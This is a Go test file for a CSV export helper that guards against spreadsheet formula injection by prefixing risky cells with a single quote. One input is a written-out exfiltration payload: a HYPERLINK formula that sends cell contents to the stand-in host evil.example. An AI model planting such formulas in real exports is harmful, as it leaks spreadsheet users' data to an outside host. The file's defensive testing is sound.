package web

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestCSVCellNeutralisesFormulas: OWASP's rule, a cell a spreadsheet would
// read as a formula starts with a single quote; other cells stay as they are.
func TestCSVCellNeutralisesFormulas(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/"&A2,"Klik")`, `'=HYPERLINK("http://evil.example/"&A2,"Klik")`},
		{"+31 6 1234", "'+31 6 1234"},
		{"-2+3", "'-2+3"},
		{"-123.45", "-123.45"},
		{"-123,45", "-123,45"},
		{"-1", "-1"},
		{"-", "'-"},
		{"-1.", "'-1."},
		{"-.5", "'-.5"},
		{"-1.2.3", "'-1.2.3"},
		{"-1e5", "'-1e5"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"CJIB-8891", "CJIB-8891"},
		{"1234.56", "1234.56"},
		{"", ""},
		{"a=b", "a=b"},
	}
	for _, tt := range tests {
		if got := CSVCell(tt.in); got != tt.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestWriteCSVNeutralisesEveryCell: header and rows both pass through
// CSVCell, and the result reads back as the same number of cells.
func TestWriteCSVNeutralisesEveryCell(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCSV(&buf, []string{"=h", "b"}, [][]string{{"@x", "y"}, {"1", "-1"}, {"-1+1", "2"}}); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"'=h", "b"}, {"'@x", "y"}, {"1", "-1"}, {"'-1+1", "2"}}
	for i := range want {
		for j := range want[i] {
			if got[i][j] != want[i][j] {
				t.Errorf("cell %d,%d = %q, want %q", i, j, got[i][j], want[i][j])
			}
		}
	}
}
